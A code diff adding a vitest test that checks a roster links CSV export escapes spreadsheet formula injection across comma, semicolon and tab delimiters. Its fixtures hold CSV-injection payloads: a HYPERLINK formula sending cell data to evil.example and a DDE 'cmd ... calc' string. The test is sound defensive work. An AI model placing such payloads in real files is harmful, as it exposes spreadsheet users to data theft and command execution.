@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import Papa from 'papaparse';
 import { ROSTER_MAX_DELEGATIONS } from '@rostrum/core';
+import { formulaCells, readAsSpreadsheet } from '../../../../../packages/core/src/testing/spreadsheet.js';
 import { decodeCsv, idFromName, likelyDuplicates, linksCsv, parseRosterCsv } from './roster-csv.js';
 
 describe('reading a delegation list from CSV', () => {
@@ -69,6 +70,26 @@ describe('reading a delegation list from CSV', () => {
     const rows = Papa.parse<string[]>(linksCsv([{ nameEn: evil, nameRu: '+1', role: 'delegate', seat: 'head', delegationId: 'x', url: 'https://r.example/m/x#t=a' }]).slice(1)).data;
     expect(rows[1]?.[0]).toBe(`'${evil}`);
     expect(rows[1]?.[1]).toBe("'+1");
+  });
+
+  it('opened with `,` or with `;` (Excel in Russian or French) or tab, no cell of the links CSV is a formula, and every field reads back', () => {
+    // [as typed, as a spreadsheet shows it]: an apostrophe before a formula start at the start of
+    // a text and after a `;`, a tab or a line break inside it (see core's csv.ts).
+    const names: Array<[string, string]> = [
+      ['Malta;=HYPERLINK("https://evil.example/?"&F2,"Open")', 'Malta;\'=HYPERLINK("https://evil.example/?"&F2,"Open")'],
+      ['Таможня;-2+3+cmd|\' /C calc\'!A0', "Таможня;'-2+3+cmd|' /C calc'!A0"],
+      ['Customs\n@SUM(1)', "Customs\n'@SUM(1)"],
+      ['+1', "'+1"],
+      ['Malta, Customs', 'Malta, Customs'],
+    ];
+    const links = names.map(([name], i) => ({ nameEn: name, nameRu: `${name} (рус.)`, role: 'delegate', seat: 'head', delegationId: `d${i}`, url: `https://r.example/m/x#t=a${i}` }));
+    const csv = linksCsv(links).slice(1);
+    expect(formulaCells(csv)).toEqual([]);
+    const [header, ...rows] = readAsSpreadsheet(csv, ',');
+    expect(header).toEqual(['name_en', 'name_ru', 'role', 'seat', 'delegation_id', 'url']);
+    expect(rows).toEqual(names.map(([, shown], i) => [shown, `${shown} (рус.)`, 'delegate', 'head', `d${i}`, `https://r.example/m/x#t=a${i}`]));
+    // papaparse, which the desk reads CSV with, sees the same cells.
+    expect(Papa.parse<string[]>(csv).data).toEqual([header, ...rows]);
   });
 
   it('reads a file saved as UTF-8 or as Windows-1251 (a Russian Excel)', () => {
